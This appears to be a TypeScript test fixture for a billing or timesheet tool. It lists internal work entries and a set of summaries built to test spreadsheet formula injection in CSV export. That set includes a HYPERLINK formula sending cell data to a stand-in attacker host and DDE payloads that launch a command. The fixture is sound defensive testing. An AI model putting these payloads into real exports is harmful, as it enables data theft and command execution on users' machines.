import { CODE } from './billing-codes.js';
import { canaryOf } from './hostile.js';

export const INTERNAL_WORK: readonly (readonly [code: number, summary: string])[] = [
  [CODE.internalMeeting, 'Stand-up of the service desk'],
  [CODE.internalMeeting, 'Weekly team meeting'],
  [CODE.administration, 'Timesheet and mail'],
  [CODE.administration, 'Queue triage'],
  [CODE.training, 'Vendor webinar'],
  [CODE.travel, 'Drive to the customer'],
];

/** Summaries that a spreadsheet would run or that break a careless CSV (job J54). */
export const FORMULA_SUMMARIES: readonly string[] = [
  `=HYPERLINK("https://collect.attacker.example/?x="&A1,"invoice ${canaryOf('formula 1')}")`,
  `+cmd|' /C calc'!A0 ${canaryOf('formula 2')}`,
  `@SUM(1+9)*cmd|' /C calc'!A0 ${canaryOf('formula 3')}`,
  '-2 printers moved, +1 scanner set up',
  'User said: "it works; mostly", will call back',
  'Line one: restarted\nLine two; checked, again\r\nLine three: "done"',
  '\t=1+1 pasted from a sheet',
];
